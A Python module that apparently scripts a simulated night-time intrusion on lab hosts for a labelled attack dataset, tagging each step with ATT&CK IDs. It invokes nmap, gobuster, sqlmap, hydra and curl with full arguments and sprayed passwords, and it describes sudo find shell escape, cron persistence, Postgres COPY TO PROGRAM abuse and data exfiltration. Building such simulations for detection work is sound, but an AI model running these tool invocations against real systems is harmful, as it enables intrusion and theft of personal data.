"""The attack of the night and the other misdeeds of the day: (when, what to do) pairs; what was done is told in `story`.

Real tools against real daemons, from namespaces that have no way out: nmap, gobuster, sqlmap, curl, hydra, ssh, psql.
"""

from __future__ import annotations

import random
import subprocess
from collections.abc import Callable, Iterator
from datetime import datetime, timedelta
from pathlib import Path

from actors import Browsers
from benign import AGENTS, SITE, Deed
from centre import ATTACKER, ETC, JUMP, PORTAL, SCRAPER, STUFFER, Centre
from hosts import enter
from intruder import STAGED, VICTIM, Intruder
from story import Chapter

LISTS = ETC / "attacker"
SITE_ADDRESS = f"http://{PORTAL}"
SPRAYED = ("123456", "Longan@2026", "P@ssw0rd")
ACCOUNTS = len((LISTS / "accounts.txt").read_text().split())


class Attack:
    """The attacker at `ATTACKER` and the day's two smaller ones; `story` fills as the deeds are done."""

    def __init__(self, centre: Centre, browsers: Browsers, midnight: datetime, work: Path) -> None:
        self.centre, self.browsers, self.midnight, self.work = centre, browsers, midnight, work
        self.intruder = Intruder(centre)
        self.story: list[Chapter] = []

    def deeds(self) -> Iterator[Deed]:
        """All of them, in order within each strand."""
        tell, inside = self._tell, self.intruder
        portal, jump, db = "portal-01", "jump-01", "db-01"
        yield tell(
            2, 8, self.port_scan, ATTACKER, portal, "T1595.001", "port and version scan of portal-01 and jump-01"
        )
        yield tell(
            2,
            10,
            self.directory_scan,
            ATTACKER,
            portal,
            "T1595.003",
            "search for hidden files and folders with gobuster",
        )
        yield tell(2, 16, self.probes, ATTACKER, portal, "T1190", "traversal, shell, JNDI and inclusion probes")
        yield tell(2, 20, self.injection, ATTACKER, portal, "T1190", "SQL injection of the case look-up with sqlmap")
        for n, password in enumerate(SPRAYED):
            text = f"password spraying at ssh, round {n + 1} of {len(SPRAYED)}: one password, {ACCOUNTS} accounts, most of them unknown"
            yield tell(2, 40 + 5 * n, lambda p=password: self.spray(p), ATTACKER, jump, "T1110.003", text)
        yield tell(
            3, 1, self.guess, ATTACKER, jump, "T1110.001", f"password guessing at the account {VICTIM}, which succeeds"
        )
        yield tell(
            3, 5, inside.log_in, ATTACKER, jump, "T1078.003 T1021.004", f"log-in as {VICTIM} with the guessed password"
        )
        yield tell(
            3,
            6,
            inside.look_around,
            VICTIM,
            jump,
            "T1033 T1548.003",
            "sudo -l, refused sudo commands, three wrong passwords",
        )
        yield tell(
            3, 9, inside.escape, VICTIM, jump, "T1548.003", "root through the permitted find: sudo find -exec /bin/sh"
        )
        yield tell(
            3,
            11,
            inside.blind,
            "root",
            jump,
            "T1070.002 T1562.001",
            "records destroyed, stopping of rsyslog and auditd tried",
        )
        text = "account svc-update in group sudo, cron job that fetches a script each hour"
        yield tell(3, 13, inside.persist, "root", jump, "T1136.001 T1098.007 T1053.003", text)
        for hour in range(3, 24):
            yield self._at(hour, 47), lambda: self.centre.cron_minute(self.centre.jump)
        text = "refused log-ins as postgres, backup_svc and portal_app, then hai_dba with the stolen .pgpass"
        yield tell(3, 16, inside.enter_database, JUMP, db, "T1078 T1552.001", text)
        text = "COPY TO PROGRAM, pg_read_file, pg_shadow, a new superuser, logging turned off, the audit trail emptied"
        yield tell(3, 18, inside.abuse_database, "hai_dba", db, "T1059 T1005 T1136 T1562.002 T1070", text)
        yield tell(3, 21, inside.copy_citizens, "hai_dba", db, "T1213.006", "the whole table of citizens copied out")
        yield tell(
            3,
            23,
            inside.stage,
            "deploy",
            portal,
            "T1021.004 T1074.002",
            "the copy staged on the portal with the stolen deploy key",
        )
        yield tell(
            3, 25, self.download, ATTACKER, portal, "T1048.003", "the staged copy, 129 MB, downloaded through nginx"
        )
        yield self._at(3, 52), inside.leave
        yield tell(
            14,
            30,
            self.scrape,
            SCRAPER,
            portal,
            "T1593",
            "parcel numbers enumerated one after the other (planning look-up)",
        )
        yield tell(
            20,
            15,
            self.stuff,
            STUFFER,
            portal,
            "T1110.004",
            "credential stuffing at the portal's log-in; one account opens",
        )

    def _at(self, hour: int, minute: int) -> datetime:
        return self.midnight + timedelta(hours=hour, minutes=minute)

    def _tell(
        self, hour: int, minute: int, act: Callable[[], object], actor: str, host: str, techniques: str, text: str
    ) -> Deed:
        def play() -> None:
            began = self.centre.clock.now()
            act()
            self.story.append(Chapter(began, self.centre.clock.now(), actor, host, tuple(techniques.split()), text))

        return self._at(hour, minute), play

    def _tool(self, *argv: str, seconds: float = 240) -> None:
        """Run a tool in the attacker's network to its end. Its exit code is its own affair."""
        subprocess.run([*enter("attacker"), *argv], capture_output=True, stdin=subprocess.DEVNULL, timeout=seconds)

    def port_scan(self) -> None:
        self._tool("nmap", "-n", "-Pn", "-sV", "-p", "22,80", PORTAL, JUMP)

    def directory_scan(self) -> None:
        words = str(LISTS / "paths.txt")
        self._tool(
            "gobuster",
            "dir",
            "-q",
            "--no-error",
            "-t",
            "4",
            "--delay",
            "80ms",
            "-u",
            SITE_ADDRESS,
            "-w",
            words,
            "-x",
            "php,bak",
        )

    def probes(self) -> None:
        for line in (LISTS / "probes.tsv").read_text().splitlines():
            path, agent = line.split("\t")
            self._tool("curl", "-s", "-o", "/dev/null", "--path-as-is", "-A", agent, SITE_ADDRESS + path)

    def injection(self) -> None:
        """Two runs as a person makes them: all techniques first, then the slow blind one for names."""
        how = (
            "--batch",
            "--flush-session",
            "--disable-coloring",
            "--dbms=postgresql",
            f"--output-dir={self.work / 'sqlmap'}",
        )
        wanted = ("--technique=BEU", "--current-user", "--is-dba", "--tables", "-D", "public")
        self._tool("sqlmap", "-u", f"{SITE_ADDRESS}/tra-cuu?ma=HS-000001", *how, *wanted)
        self._tool(
            "sqlmap",
            "-u",
            f"{SITE_ADDRESS}/tra-cuu?ma=HS-000002",
            *how,
            "--technique=B",
            "--current-user",
            "--current-db",
        )

    def spray(self, password: str) -> None:
        self._tool("hydra", "-I", "-q", "-t", "6", "-L", str(LISTS / "accounts.txt"), "-p", password, f"ssh://{JUMP}")

    def guess(self) -> None:
        self._tool("hydra", "-I", "-q", "-t", "6", "-l", VICTIM, "-P", str(LISTS / "guesses.txt"), f"ssh://{JUMP}")

    def download(self) -> None:
        for _ in range(2):
            self._tool("curl", "-s", "-o", "/dev/null", f"{SITE_ADDRESS}/{STAGED}")

    def scrape(self) -> None:
        for parcel in range(40_100, 40_340):
            self.browsers.get(SCRAPER, "python-requests/2.32.3", f"/api/quy-hoach/thua/{parcel}")
            self.centre.clock.step_to(self.centre.clock.now() + timedelta(seconds=0.8))

    def stuff(self) -> None:
        choose = random.Random(20)
        families, given = ("nguyen", "tran", "le", "pham"), ("an", "binh", "hoa", "nga")
        for n, name in enumerate(f"{f}.{g}{year}" for f in families for g in given for year in (1, 85, 90, 99)):
            body = (
                f"ten={name}&mat-khau={choose.randint(100_000, 999_999)}"
                if n != 41
                else "ten=cong.dan02&mat-khau=Thu-2026"
            )
            self.browsers.get(STUFFER, AGENTS[n % 2], "/dang-nhap", f"{SITE}/dang-nhap", "POST", body)
            self.centre.clock.step_to(self.centre.clock.now() + timedelta(seconds=choose.uniform(1, 6)))
